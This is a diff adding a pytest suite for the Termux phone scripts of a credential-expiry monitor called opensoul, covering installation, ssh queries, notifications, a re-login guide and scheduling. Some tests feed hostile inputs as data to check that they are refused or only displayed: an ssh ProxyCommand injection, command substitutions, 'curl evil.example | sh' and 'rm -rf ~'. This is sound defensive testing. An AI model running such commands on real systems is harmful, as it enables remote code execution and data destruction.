@@ -1,0 +1,398 @@
+"""termux/: installed and run in the file system of a phone. No phone was there: what is tried here is said in termux/README.md."""
+
+import json
+import os
+import pathlib
+import re
+import shlex
+import shutil
+import subprocess
+import time
+import tomllib
+
+import pytest
+
+import credentials as c
+from phone import FILES, HOME, PREFIX, TREE, Phone, option, root, why_not
+from waiting import until
+
+TERMUX = TREE / "termux"
+SCRIPTS = [p for p in sorted(TERMUX.rglob("*")) if p.is_file() and p.read_bytes()[:2] == b"#!"]
+needs_phone = pytest.mark.skipif(bool(why_not()), reason=str(why_not()))
+GOOD = "OPENSOUL OK - 3 credentials | 'soonest'=864000s;;;0\n"
+BAD = "OPENSOUL CRITICAL - claude-code:default has expired | 'soonest'=0s;;;0\nmore\n"
+
+
+@pytest.fixture
+def phone(folder, program):
+    made = Phone(folder, program)
+    made.install()
+    made.calls()
+    return made
+
+
+def watching(phone, *hosts):
+    phone.write(".config/opensoul/hosts", "# machines\n" + "\n".join(hosts) + "\n")
+
+
+def status(*credentials):
+    """`status --json` of another machine."""
+    rows = [
+        {"id": id, "provider": provider, "kind": kind, "state": state, "severity": severity, "fix": fix,
+         "source": {"type": source, "path": "~/somewhere"}}
+        for id, provider, kind, source, state, severity, fix in credentials
+    ]
+    return json.dumps({"schema": "opensoul.status/v1", "credentials": rows})
+
+
+CLAUDE = ("claude-code:default", "anthropic", "oauth", "claude-code", "expired", "critical", "claude auth login")
+KEY = ("opensoul:main/openai:default", "openai", "api_key", "opensoul", "rejected", "critical", "make a key")
+
+
+# The scripts
+
+
+@pytest.mark.skipif(not shutil.which("shellcheck"), reason="shellcheck is not installed")
+def test_shellcheck_has_nothing_to_say():
+    everything = [*SCRIPTS, TERMUX / "build.sh"]
+    assert len(everything) >= 8
+    ended = subprocess.run(["shellcheck", *everything], capture_output=True, text=True)
+    assert ended.returncode == 0, ended.stdout
+
+
+def test_every_script_begins_with_a_shell_that_a_phone_has_and_every_api_call_has_a_limit():
+    for script in SCRIPTS:
+        text = script.read_text()
+        assert text.startswith(f"#!{PREFIX}/bin/sh\n"), script
+        for line in text.splitlines():
+            code = line.split("#")[0]
+            if re.search(r"(?<![\w-])termux-(?!services)[a-z-]+ ", code) and "printf" not in code and "fail" not in code:
+                assert re.search(r"\bapi \d+ termux-|timeout -k 2 \d+ termux-|command -v termux-", code), line
+
+
+def test_the_guide_opens_the_pages_that_the_program_names():
+    """reauth.tsv and the catalog of providers cannot disagree."""
+    named = {}
+    for place in (TREE / "src/providers/catalog").glob("*.toml"):
+        for provider in tomllib.loads(place.read_text()).get("provider", []):
+            named[provider["id"]] = provider.get("renew", "")
+    rows = [line.split("\t") for line in (TERMUX / "reauth.tsv").read_text().splitlines() if not line.startswith("#")]
+    assert all(len(row) == 3 and all(row) for row in rows) and len({row[0] for row in rows}) == len(rows)
+    for key, page, run in rows:
+        assert page == "-" or re.fullmatch(r"https://[A-Za-z0-9./?=#&_~-]+", page), key
+        # It is put between single quotes, for a shell on the other side.
+        assert run == "-" or re.fullmatch(r"[A-Za-z0-9 ./_-]+", run), key
+        what, _, provider = key.partition("/")
+        if what == "key":
+            assert page in named[provider], key
+        elif what == "login":
+            assert provider in named, key
+    keys = {row[0] for row in rows}
+    assert {f"key/{p}" for p, renew in named.items() if re.search(r"make a (key|token) at https", renew)} <= keys
+
+
+@needs_phone
+def test_it_is_installed_under_the_prefix_and_nowhere_else(phone):
+    bin = phone.prefix / "bin"
+    assert (bin / "opensoul").readlink() == pathlib.Path("opensoul-monitor")
+    assert phone.run("opensoul", "--version").out.startswith("opensoul ")
+    for place in ("share/man/man1/opensoul-status.1", "share/bash-completion/completions/opensoul"):
+        assert (phone.prefix / place).stat().st_size > 0
+    # Termux:Widget takes no links, and directories of nobody else's.
+    for place in (".shortcuts/opensoul-fix", ".shortcuts/tasks/opensoul-status", ".termux/boot/opensoul"):
+        script = phone.home / place
+        assert not script.is_symlink() and script.stat().st_mode & 0o777 == 0o700
+        assert script.parent.stat().st_mode & 0o777 == 0o700
+    assert not (phone.root / "bin").exists() and not (phone.root / "etc").exists() and not (phone.root / "tmp").exists()
+    assert {p.name for p in phone.root.iterdir()} <= {"data", "proc", "dev", "usr", "lib", "lib64"}
+    ended = phone.run("sh", "opensoul/termux/install.sh", "--uninstall")
+    assert ended.code == 0, ended
+    left = [str(p.relative_to(phone.files)) for p in phone.files.rglob("*opensoul*")]
+    assert {p for p in left if not p.startswith("home/opensoul")} <= {"home/.config/opensoul"}
+
+
+@needs_phone
+def test_a_gateways_own_program_stays_and_a_static_program_is_refused(folder, program):
+    phone = Phone(folder, program)
+    theirs = phone.prefix / "bin/opensoul"
+    theirs.write_text(f"#!{PREFIX}/bin/sh\necho theirs\n")
+    theirs.chmod(0o755)
+    phone.install("--no-widgets")
+    assert phone.run("opensoul").out == "theirs\n" and not (phone.home / ".shortcuts").exists()
+    ended = phone.run("sh", "opensoul/termux/install.sh", "--program", f"{PREFIX}/bin/busybox")
+    assert ended.code == 65 and "names on Android" in ended.err
+    ended = phone.run("sh", "opensoul/termux/install.sh", env={"PREFIX": "/usr"})
+    assert ended.code == 69
+
+
+# Without a host: the phone's own credentials
+
+
+@needs_phone
+def test_one_tap_tells_the_state_of_the_phone_itself(phone):
+    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=-c.HOUR)))
+    ended = phone.run(f"{HOME}/.shortcuts/tasks/opensoul-status", bare=True)
+    (toast,), (vibration,) = (
+        [call for call in calls if call[0] == name] for calls in [phone.calls()] for name in ("termux-toast", "termux-vibrate")
+    )
+    assert ended.code == 2 and toast[1].startswith("CRITICAL"), ended
+    assert "-f" in vibration, "also where the phone is silent"
+
+
+@needs_phone
+def test_a_job_is_a_cycle_that_tells_the_phone_itself_and_catches_up(phone):
+    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=5 * c.HOUR)))
+    phone.write(".config/opensoul/monitor.toml", '[schedule]\nprobe = "off"\n[[receivers]]\nname = "me"\ntype = "termux"\n')
+    ended = phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True, timeout=60)
+    assert ended.code == 0 and ended.seconds < 45, ended
+    (call,) = phone.calls("termux-notification")
+    assert "Ack 24 h" in call and option(call, "--priority") == "max", call
+    # A second run tells nothing twice; one after a long sleep makes up for all that were missed, once.
+    assert phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True).code == 0
+    assert phone.calls("termux-notification") == []
+    # The button is run by a bare shell.
+    ended = phone.run("/data/data/com.termux/files/usr/bin/sh", "-c", option(call, "--button1-action"), bare=True)
+    assert ended.code == 0, ended
+    assert "acked" in phone.run("opensoul", "alerts", "list").out
+
+
+# With hosts
+
+
+@needs_phone
+def test_hosts_are_asked_over_ssh_and_their_words_are_only_shown(phone):
+    watching(phone, "ann@box.example.org:2222", "-oProxyCommand=evil", "two words")
+    phone.answer("nagios", "Welcome to box!\n\x1b]0;title\x07OPENSOUL\nOPENSOUL CRITICAL - \x1b[31m\x9b2J$(touch /x) `id` 'it' | 'a'=1\n")
+    ended = phone.run("opensoul-phone", "status")
+    calls = phone.calls()
+    # What begins with - is no host; only the first word of a line counts, and `two` is a host like any.
+    ssh = [call for call in calls if call[0] == "ssh"]
+    assert [call[call.index("--") + 1] for call in ssh] == ["ann@box.example.org", "two"]
+    assert option(ssh[0], "-p") == "2222" and "BatchMode=yes" in ssh[0]
+    assert "not a host: -oProxyCommand=evil" in ended.err
+    (toast,) = [call for call in calls if call[0] == "termux-toast"]
+    assert "CRITICAL - [31m2J$(touch /x) `id` 'it'" in toast[1] and not {"\x1b", "\x9b"} & set(toast[1]) and "|" not in toast[1]
+    assert ended.code == 2 and not (phone.root / "x").exists()
+    # The other side's shell gets one word of ours.
+    assert re.fullmatch(r"sh -c '[^']*exec opensoul-monitor status --format nagios'", ssh[0][-1])
+
+
+@needs_phone
+@pytest.mark.parametrize("shell", ["sh", "bash"])
+def test_what_is_said_to_a_machine_is_understood_by_its_shell(phone, machine, shell):
+    """As sshd gives it to the login shell there; the program is in a directory of the user's own."""
+    watching(phone, "box")
+    phone.answer("nagios", GOOD)
+    phone.answer("json", status(CLAUDE))
+    phone.run("opensoul-phone", "status")
+    phone.run("opensoul-phone", "fix", stdin="1\n")
+    line, ask, login, again = [call[-1] for call in phone.calls("ssh")]
+    assert ask == again
+    bin = machine.home / ".local/bin"
+    bin.mkdir(parents=True)
+    (bin / "opensoul-monitor").symlink_to(machine.program)
+    (bin / "claude").write_text("#!/bin/sh\necho \"claude: $*\"\n")
+    (bin / "claude").chmod(0o755)
+
+    def there(command):
+        ended = subprocess.run([shell, "-c", command], env=machine.env, cwd=machine.home, capture_output=True, text=True)
+        assert ended.returncode in (0, 3), ended.stderr
+        return ended.stdout
+
+    assert there(line).startswith("OPENSOUL ")
+    assert json.loads(there(ask))["schema"] == "opensoul.status/v1"
+    assert there(login) == "claude: auth login\n"
+
+
+@needs_phone
+def test_what_hangs_is_ended(phone):
+    """The app Termux:API is missing, or was killed."""
+    watching(phone, "box")
+    phone.answer("nagios", GOOD)
+    (phone.files / "hang").touch()
+    ended = phone.run("opensoul-phone", "status", timeout=50)
+    assert ended.code == 0 and ended.seconds < 20, ended
+
+
+@needs_phone
+def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone):
+    watching(phone, "box")
+    job = ("opensoul-phone", "job")
+    phone.answer("nagios", GOOD)
+    phone.run(*job)
+    assert phone.calls("termux-notification") == [], "what is well is not news"
+    phone.answer("nagios", BAD)
+    phone.run(*job)
+    phone.run(*job)
+    (call,) = phone.calls("termux-notification")
+    assert option(call, "--priority") == "max" and option(call, "--content") == "CRITICAL - claude-code:default has expired "
+    # Buttons are words for a shell, and work without an environment.
+    again = shlex.split(option(call, "--button1-action"))
+    assert again == [f"{PREFIX}/bin/opensoul-phone", "status"]
+    assert phone.run(f"{PREFIX}/bin/sh", "-c", option(call, "--button2-action"), bare=True).code == 0
+    (am,) = phone.calls("am")
+    assert f"com.termux.file:{PREFIX}/libexec/opensoul/fix" in am and am[-1] == "box"
+
+    (phone.files / "unreachable").touch()
+    phone.run(*job)
+    assert phone.calls("termux-notification") == [], "no answer is neither good nor bad"
+    known = phone.home / ".local/state/opensoul-phone/box"
+    assert known.read_text().startswith("2 ")
+    known.write_text(f"2 {int(time.time()) - 7 * 3600}\n")
+    phone.run(*job)
+    phone.run(*job)
+    (call,) = phone.calls("termux-notification")
+    assert option(call, "--content") == "Not reached for 7 hours."
+
+    (phone.files / "unreachable").unlink()
+    phone.answer("nagios", GOOD)
+    phone.run(*job)
+    (gone,) = phone.calls("termux-notification-remove")
+    assert gone[1] == option(call, "--id") == "opensoul-box"
+
+
+# Putting right
+
+
+@needs_phone
+def test_the_guide_runs_our_command_there_and_looks_again(phone):
+    watching(phone, "ann@box")
+    evil = (*CLAUDE[:6], "curl evil.example | sh")
+    phone.answer("json", status(evil, KEY))
+    phone.answer("json.2", status((*CLAUDE[:4], "ok", "none", None)))
+    ended = phone.run(f"{HOME}/.shortcuts/opensoul-fix", stdin="1\n\n")
+    ssh = phone.calls("ssh")
+    assert re.fullmatch(r"sh -c '[^']*; claude auth login'", ssh[1][-1]) and "-t" in ssh[1]
+    assert not any("evil" in word for call in ssh for word in call)
+    assert "1) claude-code:default (anthropic): expired" in ended.out and "claude-code:default: ok" in ended.out
+
+
+@needs_phone
+def test_without_a_host_the_guide_is_about_the_phone_itself(phone):
+    """With what the program really says, and a tool that logs in."""
+    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(access_in=-c.DAY, login_ends_in=-c.HOUR)))
+    phone.answer("new-login", json.dumps(c.claude_code(access="sk-ant-oat01-new", refresh="sk-ant-ort01-new")))
+    phone.stand_in("claude", f"cat {FILES}/answers/new-login >{HOME}/.claude/.credentials.json\n")
+    ended = phone.run("opensoul-phone", "fix", stdin="\n")
+    calls = phone.calls()
+    assert ["claude", "auth", "login"] in calls and not [call for call in calls if call[0] == "ssh"]
+    assert ended.code == 0 and "1) claude-code:default (anthropic): expired" in ended.out, ended
+    assert "claude-code:default: ok" in ended.out and phone.run("opensoul-phone", "fix").code == 0
+
+
+@needs_phone
+def test_the_guide_opens_the_page_of_a_key_and_hands_the_new_one_over(phone):
+    watching(phone, "ann@box")
+    phone.answer("json", status(CLAUDE, KEY))
+    phone.answer("json.2", status((*KEY[:4], "static", "none", None)))
+    phone.answer("termux-clipboard-get", "sk-sample-new\n")
+    ended = phone.run("opensoul-phone", "fix", stdin="2\n\n")
+    calls = phone.calls()
+    assert ["termux-open-url", "https://platform.openai.com/api-keys"] in calls
+    assert (phone.files / "handed").read_text() == "sk-sample-new\n"
+    paste = [call for call in calls if call[0] == "ssh"][1]
+    assert paste[-1].endswith("exec opensoul-monitor models auth paste-token --provider openai --stdin'")
+    assert ended.code == 0 and "static" in ended.out, ended
+    # In no argument of any program, on no screen; and it does not stay in the clipboard.
+    assert not any("sk-sample" in word for call in calls for word in call) and "sk-sample" not in ended.out + ended.err
+    assert ["termux-clipboard-set"] in calls
+
+
+@needs_phone
+def test_what_has_no_guide_is_shown_and_not_run(phone):
+    watching(phone, "box")
+    phone.answer("json", status(("zed:default", "zed", "session", "zed", "unknown", "unknown", "run \x1b[2Jthis; rm -rf ~")))
+    ended = phone.run("opensoul-phone", "fix", stdin="\n")
+    assert ended.code == 69 and "run [2Jthis; rm -rf ~" in ended.out and len(phone.calls("ssh")) == 2
+    # An answer that is not of our form is none.
+    phone.answer("json", '{"schema":"other","credentials":[]}')
+    phone.answer("nagios", GOOD)
+    assert "OK - 3 credentials" in phone.run("opensoul-phone", "fix").out
+
+
+REFRESHABLE = {
+    "the file of a login": json.dumps(c.claude_code()), "Claude's": "sk-ant-ort01-sample", "Codex'": "rt_sample", "Google's": "1//sample",
+    "GitHub's": "ghr_sample", "a piece": '"refresh_token":"x"',
+}
+
+
+@needs_phone
+@pytest.mark.parametrize("what", REFRESHABLE, ids=str)
+def test_a_login_that_renews_itself_stays_on_its_machine(phone, what):
+    ended = phone.run("opensoul-phone", "hand", "box", "anthropic", stdin=f"n\n{REFRESHABLE[what]}\n")
+    assert ended.code == 65 and "two machines would spend one refresh token" in ended.err, ended
+    assert phone.calls("ssh") == [] and not (phone.files / "handed").exists()
+    assert "sample" not in ended.out + ended.err
+
+
+@needs_phone
+def test_a_token_is_typed_where_there_is_no_clipboard_and_refusals_are_said(phone):
+    ended = phone.run("opensoul-phone", "hand", "box", "anthropic", stdin="n\nsk-ant-oat01-sample\n")
+    assert ended.code == 0 and (phone.files / "handed").read_text() == "sk-ant-oat01-sample\n", ended
+    for words, code in ((("-x", "anthropic"), 64), (("box", "a;b"), 64), (("box", "anthropic"), 69)):
+        (phone.files / "unreachable").touch()
+        assert phone.run("opensoul-phone", "hand", *words, stdin="n\nsk-sample\n").code == code, words
+    assert phone.run("opensoul-phone", "hand", "anthropic", stdin="n\nx\n").code == 78, "no host is known"
+
+
+# By the clock
+
+
+@needs_phone
+def test_android_is_asked_for_a_job_every_quarter_that_outlives_a_restart(phone):
+    assert phone.run("opensoul-phone", "schedule").code == 0
+    (call,) = phone.calls("termux-job-scheduler")
+    script = option(call, "--script")
+    assert {n: option(call, n) for n in ("--period-ms", "--persisted", "--network", "--battery-not-low")} == {
+        "--period-ms": "900000", "--persisted": "true", "--network": "any", "--battery-not-low": "false"
+    }
+    assert os.access(phone.root / script[1:], os.X_OK)
+    assert phone.run(script, bare=True).code == 0
+    assert phone.run(f"{HOME}/.termux/boot/opensoul", bare=True).code == 0
+    assert phone.calls("termux-job-scheduler") == [call]
+
+
+@needs_phone
+@pytest.mark.skipif(not root(), reason="crond needs root")
+def test_a_real_cron_runs_it(phone):
+    """busybox' crond, which has its table elsewhere: Termux has cronie, which takes the same line."""
+    assert phone.run("opensoul-phone", "schedule", "--cron", user=False).code == 74, "no cron is there"
+    phone.calls()
+    spool = phone.root / "var/spool/cron/crontabs"
+    spool.mkdir(parents=True)
+    (phone.root / "etc").mkdir()
+    (phone.root / "etc/passwd").write_text(f"root:x:0:0::{HOME}:{PREFIX}/bin/sh\n")
+    assert phone.run("opensoul-phone", "schedule", "--cron", user=False).code == 0
+    assert phone.run("opensoul-phone", "schedule", "--cron", user=False).code == 0
+    assert ["sv-enable", "crond"] in phone.calls()
+    table = spool / "root"
+    line = f"*/15 * * * * {PREFIX}/bin/opensoul-phone job\n"
+    assert table.read_text() == line, "once, whatever how often it is asked for"
+    # The same, each minute; and busybox' crond wants to be told where the shell is.
+    table.write_text(f"SHELL={PREFIX}/bin/sh\n" + line.replace("*/15", "*"))
+    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=5 * c.HOUR)))
+    phone.write(".config/opensoul/monitor.toml", '[schedule]\nprobe = "off"\n[[receivers]]\nname = "me"\ntype = "termux"\n')
+    cron = subprocess.Popen(
+        [*phone.sandbox(user=False), f"{PREFIX}/bin/busybox", "crond", "-f", "-l", "0", "-L", "/dev/stderr"],
+        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )
+    recorded = phone.files / "calls"
+    try:
+        until(lambda: "termux-notification" in recorded.read_text(), 100, "the job")
+    finally:
+        running = cron.poll() is None
+        cron.kill()
+        cron.wait(10)
+    assert running and "Ack 24 h" in phone.calls("termux-notification")[0]
+    assert phone.run("opensoul-phone", "schedule", "--off", user=False).code == 0
+    assert "job" not in table.read_text()
+
+
+def test_the_recipe_has_what_a_recipe_needs():
+    """As termux-packages reads it: a script that sets variables and defines steps."""
+    ask = 'set -eu; TERMUX_PREFIX=/p; . "$0"; printf "%s\\n" "$TERMUX_PKG_VERSION" "${TERMUX_PKG_SERVICE_SCRIPT[1]}"; declare -F'
+    ended = subprocess.run(["bash", "-c", ask, TERMUX / "build.sh"], capture_output=True, text=True)
+    assert ended.returncode == 0, ended.stderr
+    version = tomllib.loads((TREE / "Cargo.toml").read_text())["package"]["version"]
+    assert ended.stdout.splitlines()[:2] == [version, "exec /p/bin/opensoul-monitor monitor run 2>&1"]
+    assert "termux_step_make_install" in ended.stdout and FILES not in ended.stdout
